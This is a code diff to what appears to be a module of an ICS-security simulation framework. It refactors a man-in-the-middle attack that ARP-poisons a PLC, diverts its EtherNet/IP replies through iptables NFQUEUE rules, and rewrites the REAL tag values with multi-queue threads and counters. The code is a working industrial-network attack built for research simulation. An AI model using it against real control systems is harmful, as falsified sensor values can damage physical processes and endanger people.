@@ -1,19 +1,40 @@
 import argparse
 import os
+import threading
 import time
-import traceback
 from pathlib import Path
-import threading
 
 import fnfqueue
-from scapy.layers.inet import IP, TCP
-from scapy.packet import Raw
 
-from dhalsim.network_attacks.utilities import launch_arp_poison, restore_arp, \
-    translate_payload_to_float, translate_float_to_payload
+from dhalsim.network_attacks.cip_packet import real_offsets, rewrite_reals
+from dhalsim.network_attacks.utilities import launch_arp_poison, restore_arp
 from dhalsim.network_attacks.synced_attack import SyncedAttack
 
 
+class PacketCounters(object):
+    """
+    Counts the packets of one NFQUEUE. Every queue is read by one thread, which is the only one
+    writing its counters.
+    """
+
+    def __init__(self):
+        self.started = time.time()
+        self.packets = 0
+        self.rewritten = 0
+        self.values = 0
+        self.truncated = 0
+        self.overflows = 0
+        self.errors = 0
+
+    def as_dict(self):
+        return {'packets': self.packets,
+                'rewritten': self.rewritten,
+                'values': self.values,
+                'truncated': self.truncated,
+                'overflows': self.overflows,
+                'errors': self.errors}
+
+
 class PacketAttack(SyncedAttack):
     """
     This is a Naive Man In The Middle attack. This  attack will modify
@@ -21,7 +42,12 @@ class PacketAttack(SyncedAttack):
     change the values of tags before they reach the requesting PLC.
 
     It does this by capturing the responses of the the target plc, and changing
-    some bytes in the TCP packet so that the value is a different value.
+    the REAL values in the replies to Read Tag requests. The headers are read at their fixed
+    offsets, and the TCP checksum is updated for the changed bytes only.
+
+    The packets can be spread over several NFQUEUE numbers, each read by its own thread, with
+    the optional :code:`queues` of the attack. Packets of the same connection stay in the same
+    queue.
 
     When preforming this attack, you can use either an offset, or an absolute value.
 
@@ -32,14 +58,39 @@ class PacketAttack(SyncedAttack):
     :param yaml_index: The index of the attack in the intermediate YAML
     """
 
+    FIRST_QUEUE = 1
+    """Number of the first NFQUEUE"""
+
+    COPY_RANGE = 1024
+    """Amount of bytes of every packet copied to the attacker, longer packets are not changed"""
+
+    QUEUE_MAXLEN = 4096
+    """Amount of packets the kernel keeps per queue while waiting for a verdict"""
+
+    RECEIVE_CHUNK = 64
+    """Maximum amount of packets received from the kernel at once. fnfqueue allocates the
+    buffers for the packets in steps of the same amount, it needs at least one chunk of them."""
+
     def __init__(self, intermediate_yaml_path: Path, yaml_index: int):
         super().__init__(intermediate_yaml_path, yaml_index)
         os.system('sysctl net.ipv4.ip_forward=1')
-        self.queue = None
-        self.q = None
-        self.thread = None
+        self.n_queues = self.intermediate_attack.get('queues', 1)
+        self.connections = []
+        self.queues = []
+        self.threads = []
+        self.counters = []
         self.run_thread = False
 
+    def nfqueue_target(self) -> str:
+        """
+        :return: the iptables target sending the packets to the queues. Packets are accepted
+                 without change while no thread reads the queue.
+        """
+        if self.n_queues == 1:
+            return f'NFQUEUE --queue-num {self.FIRST_QUEUE} --queue-bypass'
+        return f'NFQUEUE --queue-balance {self.FIRST_QUEUE}:' \
+               f'{self.FIRST_QUEUE + self.n_queues - 1} --queue-bypass'
+
     def setup(self):
         """
         This function start the network attack.
@@ -51,10 +102,10 @@ class PacketAttack(SyncedAttack):
         Afterwards it launches the ARP poison, which basically tells the network that the attacker
         is the PLC, and it tells the PLC that the attacker is the router.
 
-        Finally, it launches the thread that will examine all captured packets.
+        Finally, it launches a thread for every queue that will examine the captured packets.
         """
-        os.system(
-            f'iptables -t mangle -A FORWARD -p tcp --sport 44818 -s {self.target_plc_ip} -j NFQUEUE --queue-num 1')
+        os.system(f'iptables -t mangle -A FORWARD -p tcp --sport 44818 -s {self.target_plc_ip} '
+                  f'-j {self.nfqueue_target()}')
         os.system('iptables -A FORWARD -p icmp -j DROP')
         os.system('iptables -A INPUT -p icmp -j DROP')
         os.system('iptables -A OUTPUT -p icmp -j DROP')
@@ -69,52 +120,103 @@ class PacketAttack(SyncedAttack):
         self.logger.debug(f"Naive MITM Attack ARP Poison between {self.target_plc_ip} and "
                           f"{self.intermediate_attack['gateway_ip']}")
 
-        try:
-            self.queue = fnfqueue.Connection()
-            self.q = self.queue.bind(1)
-            self.q.set_mode(fnfqueue.MAX_PAYLOAD, fnfqueue.COPY_PACKET)
-        except PermissionError:
-            self.logger.error("Permission Error trying to bind to the NFQUEUE")
-
         self.run_thread = True
-        self.thread = threading.Thread(target=self.packet_thread_function)
-        self.thread.start()
+        for number in range(self.FIRST_QUEUE, self.FIRST_QUEUE + self.n_queues):
+            try:
+                connection = fnfqueue.Connection(alloc_size=self.RECEIVE_CHUNK,
+                                                 chunk_size=self.RECEIVE_CHUNK)
+                queue = connection.bind(number)
+                # Only the start of every packet is copied, a reply to a read is short
+                queue.set_mode(self.COPY_RANGE, fnfqueue.COPY_PACKET)
+                queue.set_maxlen(self.QUEUE_MAXLEN)
+            except PermissionError:
+                self.logger.error(f"Permission Error trying to bind to NFQUEUE {number}")
+                continue
+
+            counters = PacketCounters()
+            thread = threading.Thread(target=self.packet_thread_function,
+                                      args=(connection, counters))
+            thread.daemon = True
+            thread.start()
+
+            self.connections.append(connection)
+            self.queues.append(queue)
+            self.counters.append(counters)
+            self.threads.append(thread)
+
+    def rewrite_value(self, value: float) -> float:
+        """
+        :param value: the value sent by the PLC
+        :return: the value of the attack, or the value with the offset of the attack
+        """
+        if 'value' in self.intermediate_attack.keys():
+            return self.intermediate_attack['value']
+        return value + self.intermediate_attack['offset']
 
-    def packet_thread_function(self):
+    def handle_packet(self, packet, counters: PacketCounters):
         """
-        This function is the function that will run in the thread started in the setup function.
+        Rewrite the REAL values of a reply of the target PLC, and accept the packet. A packet that
+        cannot be rewritten is accepted unchanged, so it is never left without a verdict.
 
-        For every packet that enters the netfilterqueue, it will check its length. If the length is
-        in between 100 and 116, we are dealing with a CIP packet. We then change the payload of that
-        packet and delete the original checksum.
+        :param packet: the :code:`fnfqueue.Packet`
+        :param counters: the counters of the queue of the packet
+        """
+        counters.packets += 1
+        if packet.truncated:
+            counters.truncated += 1
+            packet.accept()
+            return
+
+        try:
+            payload = packet.payload
+            offsets = real_offsets(payload)
+            if offsets:
+                rewritten = bytearray(payload)
+                rewrite_reals(rewritten, offsets, self.rewrite_value)
+                packet.payload = bytes(rewritten)
+                counters.rewritten += 1
+                counters.values += len(offsets)
+        except Exception as exc:
+            counters.errors += 1
+            self.logger.exception(f"Exception rewriting a packet in a MITM attack!: {exc}")
+            packet.accept()
+            return
+        packet.mangle()
+
+    def packet_thread_function(self, connection, counters: PacketCounters):
+        """
+        This function is the function that will run in the thread started for every queue in the
+        setup function. It handles every packet that enters the queue, see
+        :meth:`handle_packet`.
+
+        :param connection: the :code:`fnfqueue.Connection` bound to the queue
+        :param counters: the counters of the queue
         """
         while self.run_thread:
             try:
-                for packet in self.queue:
-                    p = IP(packet.payload)
-                    # Packets with 100 <= length < 116 are CIP response packets
-                    if 100 <= p[IP].len < 116:
-                        if 'value' in self.intermediate_attack.keys():
-                            p[Raw].load = translate_float_to_payload(
-                                self.intermediate_attack['value'], p[Raw].load)
-                        elif 'offset' in self.intermediate_attack.keys():
-                            p[Raw].load = translate_float_to_payload(
-                                translate_payload_to_float(p[Raw].load) + self.intermediate_attack[
-                                    'offset'], p[Raw].load)
-
-                        del p[TCP].chksum
-                        del p[IP].chksum
-
-                        packet.payload = bytes(p)
-                        self.logger.debug(f"Value of network packet for {p[IP].dst} overwritten.")
-
-                    packet.mangle()
-
+                for packet in connection:
+                    self.handle_packet(packet, counters)
+                return
             except fnfqueue.BufferOverflowException:
-                print("Buffer Overflow in a MITM attack!")
+                counters.overflows += 1
+                connection.reset()
+                self.logger.warning("Buffer Overflow in a MITM attack!")
             except Exception as exc:
-                print("Exception in a MITM attack!:", exc)
-                print(traceback.format_exc())
+                counters.errors += 1
+                self.logger.exception(f"Exception in a MITM attack!: {exc}")
+
+    def stats(self) -> dict:
+        """
+        :return: dict with the counters of all the queues, and the packets per second handled
+                 since the attack started
+        """
+        totals = PacketCounters().as_dict()
+        for counters in self.counters:
+            for name, value in counters.as_dict().items():
+                totals[name] += value
+        elapsed = max([time.time() - counters.started for counters in self.counters] or [0])
+        totals['packets_per_second'] = totals['packets'] / elapsed if elapsed else 0.0
+        return totals
 
     def interrupt(self):
         """
@@ -140,17 +242,22 @@ class PacketAttack(SyncedAttack):
         self.logger.debug(f"Naive MITM Attack ARP Restore between {self.target_plc_ip} and "
                           f"{self.intermediate_attack['gateway_ip']}")
 
-        os.system(
-            f'iptables -t mangle -D FORWARD -p tcp --sport 44818 -s {self.target_plc_ip} -j NFQUEUE --queue-num 1')
+        os.system(f'iptables -t mangle -D FORWARD -p tcp --sport 44818 -s {self.target_plc_ip} '
+                  f'-j {self.nfqueue_target()}')
         os.system('iptables -D FORWARD -p icmp -j DROP')
         os.system('iptables -D INPUT -p icmp -j DROP')
         os.system('iptables -D OUTPUT -p icmp -j DROP')
 
         self.run_thread = False
-        self.q.unbind()
+        for queue in self.queues:
+            queue.unbind()
         time.sleep(0.5)
-        self.queue.close()
-        self.thread.join()
+        for connection in self.connections:
+            connection.close()
+        for thread in self.threads:
+            thread.join()
+        self.logger.info(f"Naive MITM Attack packets: {self.stats()}")
+        self.connections, self.queues, self.threads, self.counters = [], [], [], []
 
     def attack_step(self):
         """This function just passes, as there is no required action in an attack step."""